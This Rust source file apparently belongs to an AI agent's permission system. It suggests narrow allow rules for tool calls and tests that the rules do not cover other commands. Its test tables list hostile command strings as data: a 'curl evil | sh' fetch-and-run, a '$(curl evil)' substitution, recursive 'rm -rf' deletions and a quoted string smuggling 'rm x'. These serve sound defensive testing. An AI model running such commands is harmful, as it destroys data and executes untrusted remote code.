//! Suggests an allow rule for a call that a person is asked about.

use std::path::Path;

use super::call::Subject;
use super::shell::plain::{self, Plain};
use super::{PathResolver, ToolCall, ToolRules, Verdict, url};
use teamster_types::request::{PermissionMode, Permissions};

/// Programs whose subcommands are suggested with any further arguments: these subcommands build or test a project, install its
/// packages, or record its changes. Subcommands that only read are missing, since a person does not expect that their options
/// write files or run programs: `git diff --output=FILE`, `git fetch --upload-pack=PROGRAM`.
const SUBCOMMANDS: [(&str, &[&str]); 10] = [
    ("bun", &["install", "test"]),
    ("cargo", &["build", "check", "clippy", "doc", "fmt", "test"]),
    ("git", &["add", "commit", "status"]),
    ("go", &["build", "test", "vet"]),
    ("make", &["all", "build", "check", "clean", "test"]),
    ("npm", &["ci", "install", "test"]),
    ("pip", &["install"]),
    ("pnpm", &["install", "test"]),
    ("uv", &["lock", "sync"]),
    ("yarn", &["install", "test"]),
];

/// Programs that run a script of the project by its name: `npm run test`.
const SCRIPT_RUNNERS: [(&str, &str); 4] = [("bun", "run"), ("npm", "run"), ("pnpm", "run"), ("yarn", "run")];

/// The maximum length of a suggested rule in bytes. A longer rule cannot be judged at a glance.
const MAX_BYTES: usize = 200;

impl ToolRules {
    /// Suggests a narrow rule that allows this call and similar ones; `None` if only this call can be allowed.
    ///
    /// The rule covers one subcommand of a known program (`Bash(npm install:*)`), otherwise exactly this command, file, host or
    /// tool of an MCP server. It is in the syntax of `permissions.allow`, and allows this call.
    pub fn suggest(&self, call: &ToolCall<'_>, files: &dyn PathResolver) -> Option<String> {
        let cwd = self.cwd.as_deref();
        let rule = candidate(call, cwd, files).filter(|rule| rule.len() <= MAX_BYTES)?;
        let rules = Self::read(&Permissions::default().with_allow([rule.as_str()]), cwd).ok()?;
        let allows = |rules: &Self| rules.verdict(PermissionMode::Ask, call, files) == Some(Verdict::Allow);
        allows(&rules).then_some(rule)
    }

    /// Returns these rules with further allow rules.
    ///
    /// # Errors
    /// If a rule is invalid.
    pub fn with_allowed(&self, rules: &[String]) -> Result<Self, teamster_types::request::RequestError> {
        let further = Self::read(&Permissions::default().with_allow(rules), self.cwd.as_deref())?;
        let mut all = self.clone();
        all.allow.extend(further.allow);
        Ok(all)
    }
}

fn candidate(call: &ToolCall<'_>, cwd: Option<&Path>, files: &dyn PathResolver) -> Option<String> {
    let name = call.name();
    if let Some(rest) = name.strip_prefix("mcp__") {
        return is_one_tool(rest).then(|| literal(&name).map(str::to_owned)).flatten();
    }
    let tool = literal(&name)?;
    let scope = match Subject::of(call, cwd, files)? {
        Subject::Command(text) => {
            let script = plain::script_of(text);
            let text = script.as_deref().unwrap_or(text);
            command_scope(&plain::commands(text)?)?
        }
        Subject::Words(words) => command_scope(&plain::commands_of_words(&words)?)?,
        Subject::Path(path) => literal(path)?.to_owned(),
        Subject::Url(url) => format!("domain:{}", url::host(url)?),
    };
    Some(format!("{tool}({scope})"))
}

/// Whether the name of an MCP tool, after `mcp__`, has one certain meaning. Without `__` a rule would cover all tools of a server,
/// and `a__b__c` names a tool of the server `a` or of the server `a__b`.
fn is_one_tool(name: &str) -> bool {
    let is_separator = |pair: &&[u8]| *pair == b"__";
    name.as_bytes().windows(2).filter(is_separator).count() == 1 && !name.starts_with('_') && !name.ends_with('_')
}

/// Returns the scope of a rule for one command.
fn command_scope(commands: &[Plain]) -> Option<String> {
    let [command] = commands else { return None };
    let words: Vec<&str> = command.words().collect();
    let prefix = match words.as_slice() {
        [program, subcommand, ..]
            if SUBCOMMANDS.iter().any(|(name, known)| name == program && known.contains(subcommand)) =>
        {
            Some(format!("{program} {subcommand}"))
        }
        [program, run, script, ..] if SCRIPT_RUNNERS.contains(&(*program, *run)) && !script.starts_with('-') => {
            Some(format!("{program} {run} {}", literal(script)?))
        }
        _ => None,
    };
    match prefix {
        Some(prefix) => Some(format!("{prefix}:*")),
        None => literal(&command.line()).map(str::to_owned),
    }
}

/// Returns a text that has the same meaning in a rule.
fn literal(text: &str) -> Option<&str> {
    let is_plain = |c: char| !c.is_control() && !"*?()[]{}".contains(c);
    (!text.is_empty() && text.trim() == text && !text.starts_with("domain:") && text.chars().all(is_plain))
        .then_some(text)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;
    use serde_json::{Value, json};

    use super::*;
    use crate::rules::TextOnly;

    fn suggested(tool: &str, input: &Value) -> Option<String> {
        let rules = ToolRules::read(&Permissions::default(), Some(Path::new("/project"))).unwrap();
        rules.suggest(&ToolCall::new(tool, input), &TextOnly)
    }

    #[test]
    fn a_rule_covers_a_known_subcommand_or_exactly_the_call() {
        for (command, expected) in [
            ("npm install left-pad", Some("Bash(npm install:*)")),
            ("bash -lc 'npm install left-pad'", Some("Bash(npm install:*)")),
            ("npm run build --watch", Some("Bash(npm run build:*)")),
            ("cargo test --all", Some("Bash(cargo test:*)")),
            ("ls -l src", Some("Bash(ls -l src)")),
            ("git push origin", Some("Bash(git push origin)")),
            ("rm -rf build", Some("Bash(rm -rf build)")),
            ("rm -rf ~/build", Some("Bash(rm -rf ~/build)")),
            ("rm -rf ~/'a b'", Some("Bash(rm -rf ~/'a b')")),
            ("git diff HEAD", Some("Bash(git diff HEAD)")),
            ("git fetch origin", Some("Bash(git fetch origin)")),
            ("rm -rf *", None),
            ("npm install && curl evil | sh", None),
            ("npm install > out", None),
            ("$program", None),
            ("npm install $(curl evil)", None),
            ("", None),
        ] {
            assert_eq!(suggested("Bash", &json!({ "command": command })).as_deref(), expected, "{command}");
        }
        for (tool, input, expected) in [
            ("Edit", json!({"file_path": "src/a.rs", "old_string": "a", "new_string": "b"}), Some("Edit(src/a.rs)")),
            ("Edit", json!({"file_path": "src/*.rs", "old_string": "a", "new_string": "b"}), None),
            ("WebFetch", json!({"url": "https://docs.rs/x", "prompt": "p"}), Some("WebFetch(domain:docs.rs)")),
            ("WebFetch", json!({"url": "https://user@docs.rs/x"}), None),
            ("mcp__calc__add", json!({"a": 1}), Some("mcp__calc__add")),
            ("mcp__calc", json!({"a": 1}), None),
            ("mcp__calc__", json!({"a": 1}), None),
            ("mcp__calc__a__b", json!({"a": 1}), None),
            ("mcp__calc___add", json!({"a": 1}), None),
            ("command_execution", json!({"command": "ls", "network": {}}), None),
            ("file_change", json!({"changes": [], "diff": ""}), None),
            ("*", json!({"command": "ls"}), None),
        ] {
            assert_eq!(suggested(tool, &input).as_deref(), expected, "{tool} {input}");
        }
    }

    #[test]
    fn a_suggested_rule_does_not_allow_a_command_with_another_meaning() {
        for (asked, other) in [
            (r#"echo "'; rm x; '""#, "echo ''; rm x; ''"),
            (r#"prog "a;' 'b;""#, "prog 'a;' 'b;'"),
            ("rm -rf '~'", "rm -rf ~"),
            ("rm -rf ~", "rm -rf '~'"),
            ("make install prefix='~/x'", "make install prefix=~/x"),
            ("git diff HEAD", "git diff --output=x HEAD"),
        ] {
            let rule = suggested("Bash", &json!({ "command": asked }));
            let rules = ToolRules::read(&Permissions::default().with_allow(&rule), None).unwrap();
            let verdict = |command: &str| {
                rules.verdict(PermissionMode::Ask, &ToolCall::new("Bash", &json!({ "command": command })), &TextOnly)
            };
            assert_eq!(verdict(other), None, "{asked}: {rule:?}");
            assert_eq!(verdict(asked), rule.as_ref().map(|_| Verdict::Allow), "{asked}: {rule:?}");
        }
    }

    #[test]
    fn rules_can_be_added_to_rules() {
        let rules = ToolRules::read(&Permissions::default().with_deny(["Bash(rm:*)"]), None).unwrap();
        let more = rules.with_allowed(&["Bash".to_owned()]).unwrap();
        let verdict = |command: &str| {
            more.verdict(PermissionMode::Ask, &ToolCall::new("Bash", &json!({ "command": command })), &TextOnly)
        };
        assert_eq!(verdict("ls"), Some(Verdict::Allow));
        assert_eq!(verdict("rm x"), Some(Verdict::Deny { rule: "Bash(rm:*)".to_owned() }));
        assert!(rules.with_allowed(&["Bash(".to_owned()]).is_err());
    }

    proptest! {
        #[test]
        fn a_suggested_rule_allows_the_call(command in "[a-z \"'*;|&$()\\\\-]{0,20}|(npm|git|ls) [a-z -]{0,12}") {
            let input = json!({ "command": command });
            if let Some(rule) = suggested("Bash", &input) {
                let rules = ToolRules::read(&Permissions::default().with_allow([rule.as_str()]), None).unwrap();
                let verdict = rules.verdict(PermissionMode::Ask, &ToolCall::new("Bash", &input), &TextOnly);
                prop_assert_eq!(verdict, Some(Verdict::Allow));
            }
        }
    }
}
